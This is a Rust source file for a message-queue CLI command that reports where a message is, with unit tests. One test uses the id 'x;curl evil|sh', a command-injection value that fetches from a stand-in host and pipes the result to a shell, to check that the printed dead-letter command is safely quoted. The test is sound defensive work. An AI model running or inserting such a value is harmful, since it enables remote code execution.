//! `lapwing message`

mod runs;

use std::process::ExitCode;

use clap::Args;
use serde_json::Value;

use super::{Worker, failures::error, number, query, second, short, text};
use crate::cli::print::{self, Out};

/// Say where a message is, and where it spent its time, as far as a running worker knows.
///
/// A worker knows the messages that it has, its last 500 failures of each consumer, and the ids of the last
/// 131,072 messages that each consumer acked. It knows nothing of a message that waits in a queue or is in another
/// worker.
#[derive(Args)]
pub(in crate::cli) struct Message {
    /// The `message-id` of the message
    id: String,
    #[command(flatten)]
    worker: Worker,
}

pub(in crate::cli) const EXIT_CODES: &str =
    "Exit code 1: this worker knows nothing of the message, or does not answer.";

impl Message {
    pub(in crate::cli) fn run(&self) -> anyhow::Result<ExitCode> {
        let wanted = query(&[("id", Some(&self.id))]);
        let story = self.worker.get(&format!("message?{wanted}"))?;
        let out = Out::default();
        if self.worker.json {
            out.line(&story);
        } else {
            let traces = self.worker.get("worker")?;
            let lines = told(&story, text(&traces, "trace_url"));
            lines.iter().for_each(|line| out.line(line));
        }
        Ok(match list(&story, "places").is_empty() {
            true => ExitCode::FAILURE,
            false => ExitCode::SUCCESS,
        })
    }
}

/// The lines that an error or a sentence may take.
const LINES: usize = 4;

fn told(story: &Value, trace_url: &str) -> Vec<String> {
    let mut lines = print::folded(text(story, "id"), 0, LINES);
    for place in list(story, "places") {
        lines.extend(print::folded(&whereabouts(story, place), 2, LINES));
        if text(place, "state") == "dead-lettered" {
            lines.push(format!("    {}", look(story, place)));
        }
    }
    if list(story, "places").is_empty() {
        let unknown = "This worker does not have it, and knows no ack and no failure of it. It is in a queue, \
                       in another worker, or longer ago.";
        lines.extend(print::folded(unknown, 2, LINES));
    }
    for name in list(story, "unanswered") {
        let name = name.as_str().unwrap_or_default();
        let silent = format!("{name} gave no answer: the message may be there");
        lines.extend(print::folded(&silent, 2, LINES));
    }
    lines.extend(earlier(story));
    lines.extend(runs::told(story, trace_url));
    lines.push(String::new());
    let (failures, acks) = (text(story, "failures_since"), text(story, "acks_since"));
    let reach = format!(
        "This worker has all its failures since {}, and knows what it acked since {}. The log has those before.",
        second(failures),
        second(acks)
    );
    lines.extend(print::folded(&reach, 0, LINES));
    let error = text(story, "file_error");
    if !error.is_empty() {
        lines.extend(print::folded(error, 0, LINES));
    }
    lines
}

/// What this worker saw last of the message in a consumer.
fn whereabouts(story: &Value, place: &Value) -> String {
    let consumer = text(place, "consumer");
    let at = second(text(place, "at"));
    let queue = match text(place, "queue") {
        "" => String::new(),
        queue => format!(" in {queue}"),
    };
    let due = second(text(place, "due_at"));
    let last = match text(place, "state") {
        "in-flight" => return in_flight(story, consumer),
        "handled" => format!("handled at {at}, and the ack follows"),
        "waiting" => format!("it waits{queue} for its next attempt at {due}, in any worker"),
        "due" => format!(
            "failed at {at}. Its next attempt was due at {due}. This worker has not had it since"
        ),
        "dead-lettered" => format!("dead-lettered{queue} at {at} ({})", text(place, "reason")),
        "returned" => {
            format!("it went back to its queue at {at}. This worker has not had it since")
        }
        other => format!("{other} at {at}"),
    };
    match place["may_be_acked"] == true {
        true => format!(
            "{consumer}: {last}. It may have been acked since then: this worker does not know."
        ),
        false => format!("{consumer}: {last}"),
    }
}

/// The command that shows the dead letter. People copy it, so it is on one line, however long that is.
fn look(story: &Value, place: &Value) -> String {
    let (id, consumer) = (text(story, "id"), text(place, "consumer"));
    // What begins with a hyphen would be an option.
    let end = if id.starts_with('-') { "-- " } else { "" };
    let (id, consumer) = (print::quoted(id), print::quoted(consumer));
    format!("lapwing dead show --consumer {consumer} {end}{id}")
}

fn in_flight(story: &Value, consumer: &str) -> String {
    let flights = list(story, "in_flight").iter();
    let flights = flights.filter(|flight| text(flight, "consumer") == consumer);
    let told = flights.map(|flight| {
        let runs = match flight["handling_seconds"].as_f64() {
            Some(runs) => format!(", its handler runs for {}", short(Some(runs))),
            None => String::new(),
        };
        format!(
            "in flight for {}: {}, attempt {}{runs}, first seen {}",
            short(flight["age_seconds"].as_f64()),
            text(flight, "phase"),
            number(flight, "attempt"),
            second(text(flight, "first_seen_at")),
        )
    });
    format!("{consumer}: {}", told.collect::<Vec<_>>().join("; and "))
}

/// Attempts of a message in flight that only its headers have: in another worker, or longer ago.
fn earlier(story: &Value) -> Vec<String> {
    let known: Vec<_> = list(story, "outcomes").iter().map(run_of).collect();
    let mut lines = Vec::new();
    for flight in list(story, "in_flight") {
        let consumer = text(flight, "consumer");
        for past in list(flight, "history") {
            let attempt = number(past, "attempt");
            if known.contains(&(consumer, attempt)) {
                continue;
            }
            if lines.is_empty() {
                lines.extend([
                    String::new(),
                    "Earlier attempts, as its headers have them".to_owned(),
                ]);
            }
            let (at, worker) = (second(text(past, "at")), text(past, "worker"));
            let head = format!("#{attempt} {at} on {worker}");
            lines.extend(print::folded(&head, 2, LINES));
            lines.extend(print::folded(&error(past), 4, LINES));
        }
    }
    lines
}

fn run_of(outcome: &Value) -> (&str, u64) {
    (text(outcome, "consumer"), number(outcome, "attempt"))
}

fn list<'a>(value: &'a Value, name: &str) -> &'a [Value] {
    value[name].as_array().map_or(&[], Vec::as_slice)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn story(changes: Value) -> Value {
        let mut story = json!({
            "id": "order-554", "places": [], "in_flight": [], "unanswered": [], "outcomes": [],
            "failures_since": "2026-11-27T01:00:00Z", "acks_since": "2026-11-27T02:00:00Z", "file_error": null,
        });
        for (name, value) in changes.as_object().unwrap() {
            story[name] = value.clone();
        }
        story
    }

    fn place(state: &str, changes: Value) -> Value {
        let mut place = json!({
            "consumer": "orders", "state": state, "at": "2026-11-27T02:24:01.120Z", "due_at": null,
            "queue": null, "reason": null, "may_be_acked": false,
        });
        for (name, value) in changes.as_object().unwrap() {
            place[name] = value.clone();
        }
        place
    }

    fn said(story: &Value) -> String {
        let lines = told(story, "https://traces.example/{trace_id}");
        assert!(
            lines
                .iter()
                .all(|line| line.chars().count() <= print::WIDTH),
            "{lines:#?}"
        );
        lines
            .join(" ")
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    }

    #[test]
    fn an_unknown_message_is_not_called_failed_and_the_reach_is_said() {
        let text = said(&story(json!({})));
        assert!(
            text.starts_with("order-554 This worker does not have it, and knows no ack"),
            "{text}"
        );
        assert!(
            text.contains("failures since 2026-11-27T01:00:00Z"),
            "{text}"
        );
        assert!(text.contains("acked since 2026-11-27T02:00:00Z"), "{text}");
    }

    #[test]
    fn each_consumer_that_had_it_says_what_it_saw_last() {
        let cases = [
            (
                "handled",
                json!({}),
                "orders: handled at 2026-11-27T02:24:01Z, and the ack follows",
            ),
            (
                "waiting",
                json!({ "queue": "orders.retry.4s", "due_at": "2026-11-27T02:24:05Z" }),
                "orders: it waits in orders.retry.4s for its next attempt at 2026-11-27T02:24:05Z, in any worker",
            ),
            (
                "due",
                json!({ "due_at": "2026-11-27T02:24:05Z", "may_be_acked": true }),
                "orders: failed at 2026-11-27T02:24:01Z. Its next attempt was due at 2026-11-27T02:24:05Z. \
                 This worker has not had it since. It may have been acked since then: this worker does not know.",
            ),
            (
                "dead-lettered",
                json!({ "queue": "orders.dead", "reason": "max-attempts" }),
                "orders: dead-lettered in orders.dead at 2026-11-27T02:24:01Z (max-attempts) \
                 lapwing dead show --consumer orders order-554",
            ),
            (
                "returned",
                json!({}),
                "orders: it went back to its queue at 2026-11-27T02:24:01Z.",
            ),
        ];
        for (state, changes, wanted) in cases {
            let text = said(&story(json!({ "places": [place(state, changes)] })));
            assert!(text.contains(wanted), "{text}");
        }
    }

    #[test]
    fn the_command_for_a_dead_letter_can_be_copied_whatever_the_id_is() {
        let dead = place(
            "dead-lettered",
            json!({ "queue": "orders.dead", "reason": "failed" }),
        );
        let long = "x".repeat(255);
        for (id, wanted) in [
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("--all", "-- '--all'"),
            (&long, &long),
        ] {
            let lines = told(&story(json!({ "id": id, "places": [&dead] })), "");
            let wanted = format!("    lapwing dead show --consumer orders {wanted}");
            assert!(lines.contains(&wanted), "{lines:#?}");
        }
    }

    #[test]
    fn a_message_in_flight_tells_its_phase_and_the_attempts_of_others() {
        let flight = json!({
            "consumer": "orders", "phase": "handling", "attempt": 3, "age_seconds": 6.5, "handling_seconds": 5.3,
            "first_seen_at": "2026-11-27T02:24:01Z",
            "history": [
                { "attempt": 1, "at": "2026-11-27T02:24:02Z", "worker": "w@host:1", "class": "http", "error": "503" },
                { "attempt": 2, "at": "2026-11-27T02:24:03Z", "worker": "w@here:1", "class": "http", "error": "500" },
            ],
        });
        let known = json!({ "consumer": "orders", "attempt": 2, "kind": "failed" });
        let text = said(&story(json!({
            "places": [place("in-flight", json!({}))], "in_flight": [flight], "outcomes": [known],
        })));
        let wanted = "orders: in flight for 6.5s: handling, attempt 3, its handler runs for 5.3s";
        assert!(text.contains(wanted), "{text}");
        assert!(
            text.contains("#1 2026-11-27T02:24:02Z on w@host:1 http: 503"),
            "{text}"
        );
        assert!(!text.contains("#2"), "this worker has it itself: {text}");
    }
}
